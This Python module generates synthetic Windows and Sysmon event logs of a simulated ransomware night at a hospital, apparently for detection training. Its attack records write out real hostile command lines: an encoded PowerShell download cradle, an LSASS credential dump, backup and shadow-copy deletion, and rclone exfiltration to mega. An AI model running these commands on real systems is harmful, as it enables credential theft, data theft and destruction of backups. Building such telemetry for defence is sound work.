"""The endpoint layer: Windows Security, System and Sysmon as winlogbeat ships them (ECS JSON)."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import datetime, timedelta

from demo_night.hospital import ACCOUNT, C2, DOMAIN, SERVICE, VPN_ADDRESS, Machine, Night, iso

Row = tuple[datetime, dict[str, object]]

_CHANNELS = {
    "Microsoft-Windows-Sysmon/Operational": "Microsoft-Windows-Sysmon",
    "Security": "Microsoft-Windows-Security-Auditing",
    "System": "Service Control Manager",
}
_SYSMON = "Microsoft-Windows-Sysmon/Operational"
_SYS32 = "C:\\Windows\\System32\\"

_EVERYDAY = [
    ("C:\\Program Files\\DossierPatient\\dpi.exe", "dpi.exe --session", "C:\\Windows\\explorer.exe"),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe", "C:\\Windows\\explorer.exe"),
    (_SYS32 + "svchost.exe", "svchost.exe -k netsvcs -p", _SYS32 + "services.exe"),
    (_SYS32 + "taskhostw.exe", "taskhostw.exe", _SYS32 + "svchost.exe"),
    ("C:\\Program Files\\Impression\\spool-agent.exe", "spool-agent.exe /q", _SYS32 + "services.exe"),
]


def records(night: Night) -> Iterator[Row]:
    """Give a night of Windows events: everyday processes and log-ons, and the attack."""
    yield from _everyday(night)
    yield from _foothold(night)
    yield from _spread(night)
    yield from _destruction(night)


def _event(night: Night, moment: datetime, machine: Machine, channel: str, code: int, **data: object) -> Row:
    record: dict[str, object] = {
        "@timestamp": iso(moment),
        "agent": {"type": "winlogbeat", "version": "8.17.0", "hostname": machine.name},
        "ecs": {"version": "8.0.0"},
        "event": {"code": str(code), "kind": "event", "provider": _CHANNELS[channel]},
        "host": {"name": machine.full_name.lower()},
        "winlog": {
            "api": "wineventlog",
            "channel": channel,
            "computer_name": machine.full_name,
            "event_id": str(code),
            "provider_name": _CHANNELS[channel],
            "record_id": night.dice.randrange(10**7),
            "event_data": {name: str(value) for name, value in data.items()},
        },
    }
    return moment, record


def _process(night: Night, moment: datetime, machine: Machine, image: str, command: str, parent: str, user: str) -> Row:
    return _event(
        night,
        moment,
        machine,
        _SYSMON,
        1,
        UtcTime=f"{moment:%Y-%m-%d %H:%M:%S}.{moment.microsecond // 1000:03}",
        ProcessId=night.dice.randint(1000, 9000),
        Image=image,
        CommandLine=command,
        CurrentDirectory=_SYS32,
        User=user,
        IntegrityLevel="High" if user.endswith(SERVICE) else "Medium",
        OriginalFileName=image.rpartition("\\")[2],
        ParentImage=parent,
        ParentCommandLine=parent.rpartition("\\")[2],
        Hashes=f"SHA256={night.dice.getrandbits(256):064X}",
    )


def _logon(
    night: Night, moment: datetime, machine: Machine, user: str, kind: int, address: str, desk: str = "-"
) -> Row:
    return _event(
        night,
        moment,
        machine,
        "Security",
        4624,
        SubjectUserName="-",
        TargetUserName=user,
        TargetDomainName=DOMAIN,
        LogonType=kind,
        AuthenticationPackageName="Kerberos" if kind == 3 else "Negotiate",
        WorkstationName=desk,
        IpAddress=address,
        IpPort=night.dice.randint(49152, 65535),
    )


def _everyday(night: Night) -> Iterator[Row]:
    for moment in night.moments(7000):
        machine = night.dice.choice(night.of("desk"))
        image, command, parent = night.dice.choice(_EVERYDAY)
        user = f"{DOMAIN}\\{night.dice.choice(night.people)}"
        yield _process(night, moment, machine, image, command, parent, user)
    for moment in night.moments(5000):
        desk = night.dice.choice(night.of("desk"))
        server = night.dice.choice(night.of("server"))
        yield _logon(night, moment, server, night.dice.choice(night.people), 3, desk.address, desk.name)


def _foothold(night: Night) -> Iterator[Row]:
    rds = night.machine("SRV-RDS1")
    user = f"{DOMAIN}\\{ACCOUNT}"
    shell = _SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
    yield _logon(night, night.at("02:16:04"), rds, ACCOUNT, 10, VPN_ADDRESS)
    encoded = "powershell.exe -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAA=="
    yield _process(night, night.at("02:18:38"), rds, shell, encoded, _SYS32 + "cmd.exe", user)
    yield _event(night, night.at("02:18:41"), rds, _SYSMON, 3, UtcTime="2026-11-15 01:18:41.000",
                 Image=shell, User=user,
                 Protocol="tcp", Initiated="true", SourceIp=rds.address, SourceHostname=rds.full_name, SourcePort=50112,
                 DestinationIp=C2, DestinationPort=443)  # fmt: skip
    for clock, image, command in (
        ("02:21:07", "nltest.exe", "nltest /domain_trusts /all_trusts"),
        ("02:21:30", "net.exe", 'net group "Domain Admins" /domain'),
        ("02:22:01", "SharpHound.exe", "C:\\Users\\Public\\SharpHound.exe -c All --zipfilename v.zip"),
    ):
        folder = "C:\\Users\\Public\\" if image == "SharpHound.exe" else _SYS32
        yield _process(night, night.at(clock), rds, folder + image, command, shell, user)
    dump = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Users\\Public\\v.dmp full"
    yield _process(night, night.at("02:25:12"), rds, _SYS32 + "rundll32.exe", dump, shell, user)
    yield _event(night, night.at("02:25:13"), rds, _SYSMON, 10, UtcTime="2026-11-15 01:25:13.000",
                 SourceImage=_SYS32 + "rundll32.exe", TargetImage=_SYS32 + "lsass.exe", GrantedAccess="0x1fffff",
                 CallTrace="C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\comsvcs.dll+2b1a6|UNKNOWN(000001)",
                 SourceUser=user, TargetUser="NT AUTHORITY\\SYSTEM")  # fmt: skip


def _spread(night: Night) -> Iterator[Row]:
    rds, backup, directory = night.machine("SRV-RDS1"), night.machine("SRV-SAUV"), night.machine("SRV-AD1")
    yield _logon(night, night.at("02:29:10"), backup, SERVICE, 3, rds.address, rds.name)
    yield _event(night, night.at("02:29:13"), backup, "System", 7045, ServiceName="PSEXESVC",
                 ImagePath="%SystemRoot%\\PSEXESVC.exe", ServiceType="user mode service", StartType="demand start",
                 AccountName="LocalSystem")  # fmt: skip
    yield _process(night, night.at("02:29:15"), backup, _SYS32 + "cmd.exe", "cmd.exe", "C:\\Windows\\PSEXESVC.exe",
                   "NT AUTHORITY\\SYSTEM")  # fmt: skip
    yield _event(night, night.at("02:38:07"), directory, "Security", 4662, SubjectUserName=SERVICE,
                 SubjectDomainName=DOMAIN, ObjectServer="DS", ObjectType="%{19195a5b-6da0-11d0-afd3-00c04fd930c9}",
                 ObjectName="%{b1d4ac3b-2d38-4f0c-9e06-2f1f3c8d2a11}", AccessMask="0x100",
                 Properties="%%7688\n\t{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}")  # fmt: skip


def _destruction(night: Night) -> Iterator[Row]:
    backup, files = night.machine("SRV-SAUV"), night.machine("SRV-FIC1")
    system, cmd = "NT AUTHORITY\\SYSTEM", _SYS32 + "cmd.exe"
    for clock, image, command in (
        (
            "02:33:02",
            "WindowsPowerShell\\v1.0\\powershell.exe",
            "powershell Set-MpPreference -DisableRealtimeMonitoring $true",
        ),
        ("02:33:40", "net.exe", "net stop VeeamBackupSvc /y"),
        ("02:34:05", "vssadmin.exe", "vssadmin delete shadows /all /quiet"),
        ("02:34:09", "wbadmin.exe", "wbadmin delete catalog -quiet"),
        ("02:34:15", "bcdedit.exe", "bcdedit /set {default} recoveryenabled no"),
    ):
        yield _process(night, night.at(clock), backup, _SYS32 + image, command, cmd, system)
    rclone = "C:\\Users\\Public\\rclone.exe"
    command = f"{rclone} copy D:\\Partages\\Services mega:v --transfers 16 --max-age 3y"
    user = f"{DOMAIN}\\{SERVICE}"
    yield _process(night, night.at("02:43:08"), files, rclone, command, cmd, user)
    start = night.at("02:52:00")
    for step in range(60):
        moment = start + timedelta(seconds=step * 0.4)
        yield _event(night, moment, files, _SYSMON, 11, UtcTime=f"{moment:%Y-%m-%d %H:%M:%S}.000", Image="System",
                     TargetFilename=f"D:\\Partages\\commun\\Services\\{step:03}\\LIRE-POUR-RECUPERER-VOS-FICHIERS.txt",
                     User=system)  # fmt: skip
